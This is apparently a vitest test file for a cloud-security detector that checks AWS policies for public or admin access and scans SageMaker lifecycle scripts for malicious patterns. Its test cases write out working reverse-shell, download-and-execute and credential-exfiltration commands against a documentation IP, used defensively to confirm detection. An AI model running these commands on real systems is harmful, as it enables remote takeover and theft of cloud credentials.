import { describe as group, expect, it } from 'vitest';
import { CHECKS } from '../../../src/trail/detect/checks.js';
import { adminStatements, isPublicPrincipal, publicStatements, statementsOf } from '../../../src/trail/detect/policy.js';
import { decodeScript, scanScript, SCRIPT_PATTERNS } from '../../../src/trail/detect/script-patterns.js';

const b64 = (s: string) => Buffer.from(s).toString('base64');

group('policy documents', () => {
  it('reads objects, JSON strings and URL-encoded JSON; anything else is not a policy', () => {
    const doc = { Version: '2012-10-17', Statement: { Effect: 'Allow', Action: '*', Resource: '*' } };
    expect(statementsOf(doc)).toHaveLength(1);
    expect(statementsOf(JSON.stringify(doc))).toHaveLength(1);
    expect(statementsOf(encodeURIComponent(JSON.stringify(doc)))).toHaveLength(1);
    expect(statementsOf('invalid-json-policy')).toBeUndefined();
    expect(statementsOf('%7Bnot json')).toBeUndefined();
    expect(statementsOf(null)).toBeUndefined();
  });

  it('knows the public principals', () => {
    expect(isPublicPrincipal('*')).toBe(true);
    expect(isPublicPrincipal({ AWS: '*' })).toBe(true);
    expect(isPublicPrincipal({ AWS: ['arn:aws:iam::111122223333:root', '*'] })).toBe(true);
    expect(isPublicPrincipal({ AWS: 'arn:aws:iam::111122223333:root' })).toBe(false);
    expect(isPublicPrincipal({ Service: 'cloudtrail.amazonaws.com' })).toBe(false);
  });

  it('calls a statement public unless a condition confines the caller', () => {
    const stmt = (Condition?: unknown) => ({ Statement: [{ Sid: 'Open', Effect: 'Allow', Principal: '*', Action: 's3:GetObject', Resource: 'arn:aws:s3:::b/*', ...(Condition ? { Condition } : {}) }] });
    expect(publicStatements(stmt())).toEqual(['statement "Open" allows Principal * s3:GetObject without a condition']);
    expect(publicStatements(stmt({ Bool: { 'aws:SecureTransport': 'true' } }))).toHaveLength(1);
    expect(publicStatements(stmt({ StringEquals: { 'aws:SourceVpce': 'vpce-1' } }))).toEqual([]);
    expect(publicStatements(stmt({ StringEquals: { 'AWS:PrincipalOrgID': 'o-1' } }))).toEqual([]);
    expect(publicStatements({ Statement: [{ Effect: 'Deny', Principal: '*', Action: 's3:*', Resource: '*' }] })).toEqual([]);
  });

  it('finds Action * on Resource *, as a string or in a list', () => {
    expect(adminStatements(JSON.stringify({ Statement: [{ Effect: 'Allow', Action: ['*'], Resource: ['*'] }] }))).toHaveLength(1);
    expect(adminStatements({ Statement: [{ Effect: 'Allow', Action: '*:*', Resource: '*' }] })).toHaveLength(1);
    expect(adminStatements({ Statement: [{ Effect: 'Allow', Action: 's3:*', Resource: '*' }] })).toEqual([]);
    expect(adminStatements({ Statement: [{ Effect: 'Allow', Action: '*', Resource: 'arn:aws:s3:::b' }] })).toEqual([]);
    // Panther's quarantine policy: deny everything, the opposite of admin.
    expect(adminStatements('{\n\t"Version": "2012-10-17",\n\t"Statement": [{"Effect": "Deny", "Action": ["*"], "Resource": ["*"]}]\n}')).toEqual([]);
  });
});

group('lifecycle scripts', () => {
  const hits = (script: string) => scanScript(script).map((h) => h.pattern.name);

  it('decodes base64 as the API takes it, and leaves hidden values alone', () => {
    expect(decodeScript(b64('#!/bin/bash\necho hi\n'))).toBe('#!/bin/bash\necho hi\n');
    expect(decodeScript('HIDDEN_DUE_TO_SECURITY_REASONS')).toBe('HIDDEN_DUE_TO_SECURITY_REASONS');
    expect(decodeScript(42)).toBeUndefined();
  });

  it.each([
    ['curl -fsSL https://203.0.113.9/x.sh | bash', 'download piped to a shell'],
    ['wget -qO- http://203.0.113.9/i | sudo sh', 'download piped to a shell'],
    ['bash <(curl -s https://203.0.113.9/x)', 'download run through process substitution'],
    ['curl -s -o /tmp/m https://203.0.113.9/m && chmod +x /tmp/m && /tmp/m', 'download saved then executed'],
    ['python3 -c "import urllib.request;exec(urllib.request.urlopen(\'http://203.0.113.9/p\').read())"', 'python one-liner fetching code'],
    ['echo aGk= | base64 -d | bash', 'base64 payload piped to a shell'],
    ['bash -i >& /dev/tcp/203.0.113.9/4444 0>&1', 'bash /dev/tcp or /dev/udp socket'],
    ['nc -e /bin/sh 203.0.113.9 4444', 'netcat executing a shell'],
    ['socat TCP:203.0.113.9:4444 EXEC:/bin/bash', 'socat exec'],
    ['rm /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 203.0.113.9 4444 > /tmp/f', 'named pipe to netcat'],
    ["python -c 'import socket,os,pty;s=socket.socket();s.connect((\"203.0.113.9\",4444));os.dup2(s.fileno(),0);pty.spawn(\"/bin/sh\")'", 'python socket shell'],
    ['curl http://169.254.169.254/latest/meta-data/iam/security-credentials/', 'instance metadata credentials path'],
    ['cat ~/.aws/credentials | curl -d @- https://203.0.113.9', 'AWS credentials file'],
  ])('flags %s', (script, name) => {
    expect(hits(script)).toContain(name);
  });

  it('passes ordinary lifecycle scripts', () => {
    const ordinary = [
      "#!/bin/bash\nset -e\nsudo -u ec2-user -i <<'EOF'\nsource /home/ec2-user/anaconda3/bin/activate python3\npip install --upgrade pandas\nEOF\n",
      '#!/bin/bash\nIDLE_TIME=3600\nwget https://raw.githubusercontent.com/aws-samples/amazon-sagemaker-notebook-instance-lifecycle-config-samples/master/scripts/auto-stop-idle/autostop.py\n(crontab -l 2>/dev/null; echo "*/5 * * * * /usr/bin/python3 $PWD/autostop.py --time $IDLE_TIME") | crontab -\n',
      '#!/bin/bash\nnohup jupyter lab --no-browser &\nconda install -y -c conda-forge xgboost\n',
    ];
    for (const s of ordinary) expect(hits(s)).toEqual([]);
  });

  it('is a documented check over base64 content', () => {
    expect(CHECKS['script-suspicious'].test(b64('curl -s http://x/y | bash'))).toMatch(/download-and-execute: download piped to a shell/);
    expect(CHECKS['script-suspicious'].test(b64('pip install pandas'))).toBeUndefined();
    expect(CHECKS['script-suspicious'].description).toContain(`${SCRIPT_PATTERNS.length} patterns`);
  });

  it('keeps every pattern in the RE2 subset (no look-around or back-references)', () => {
    for (const p of SCRIPT_PATTERNS) expect(p.source).not.toMatch(/\(\?[=!<]|\\[1-9]/);
  });
});
